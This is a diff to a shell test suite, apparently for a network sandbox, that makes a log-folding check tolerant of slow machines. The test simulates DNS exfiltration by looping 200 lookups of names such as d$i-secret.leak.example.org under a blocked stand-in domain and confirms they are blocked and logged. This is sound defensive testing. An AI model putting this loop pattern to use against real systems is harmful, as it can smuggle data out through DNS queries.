@@ -63,13 +63,18 @@ tb_check "dns_allow resolves but does not allow the connection" [ "$?" = 1 ]
 
 # DNS-looking exfiltration: 200 unique names under one blocked domain. Nothing reaches the
 # resolver, and the log folds them (the first whole, the rest as *.leak.example.org).
+t0=$(date +%s%N)
 run_app sh -c "i=0; while [ \$i -lt 200 ]; do i=\$((i + 1));
 	$NET resolve-connect $INET4 d\$i-secret.leak.example.org 443 1 >/dev/null 2>&1; done"
+# A fold window lasts 1 s and ends in at most 2 records (the first, the count): on a slow
+# machine (sanitizers, other load) the loop spans more windows.
+max=$((2 * ($(tb_ms_since "$t0") / 1000 + 2)))
 sleep 1.5
 recs=$(tb_log_count 'leak.example.org')
 sum=$(grep -F 'leak.example.org' "$TB_LOG" | sed -n 's/.*"count":\([0-9]*\).*/\1/p' |
 	awk '{ s += $1 } END { print s + 0 }')
-tb_check "200 unique blocked names fold into $recs records" [ "$recs" -ge 1 -a "$recs" -le 4 ]
+tb_check "200 unique blocked names fold into $recs records (at most $max)" \
+	[ "$recs" -ge 1 -a "$recs" -le "$max" -a "$recs" -le 40 ]
 tb_check "whose counts add up to 200 (got $sum)" [ "$sum" = 200 ]
 tb_check "the folded record names the domain" [ "$(tb_log_count '"host":"*.leak.example.org"')" -ge 1 ]
 
